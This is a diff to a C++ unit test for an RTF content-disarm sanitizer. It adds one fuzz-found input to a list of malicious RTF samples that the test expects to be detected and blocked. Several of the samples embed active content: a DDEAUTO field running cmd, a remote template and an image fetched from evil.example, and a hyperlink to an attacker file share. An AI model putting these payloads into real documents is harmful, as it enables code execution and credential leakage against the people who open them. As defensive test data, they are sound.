@@ -499,7 +499,9 @@ TEST(CdrRtf, TheSecondReaderFindsActiveContentInInputsAndNoneInOutputs) {
   for (const char* raw : {"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd \"/c calc\"}{\\fldrslt x}}}",
                           "{\\rtf1{\\field{\\*\\fldinst \\'44DE c:\\\\\\\\windows\\\\\\\\cmd.exe}{\\fldrslt x}}}", "{\\rtf1{\\*\\template http://evil.example/t.dotm}}",
                           "{\\rtf1{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv http://evil.example/a.png}}}}}",
-                          "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \\\\o \"tip\" \"file://attacker/share/x.lnk\"}{\\fldrslt x}}}"}) {
+                          "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \\\\o \"tip\" \"file://attacker/share/x.lnk\"}{\\fldrslt x}}}",
+                          // An object's kind words stray outside any \object group (found by cdr_rtf_fuzz).
+                          "{\\rtf1{\\objocx x}{\\objemb y}\\objsub\\objpub\\objicemb\\objhtml z}"}) {
     EXPECT_FALSE(internal::rtf_active_content(raw).empty()) << raw;
     CdrResult r = run(raw, "a.rtf");
     if (r.verdict != Verdict::blocked) {
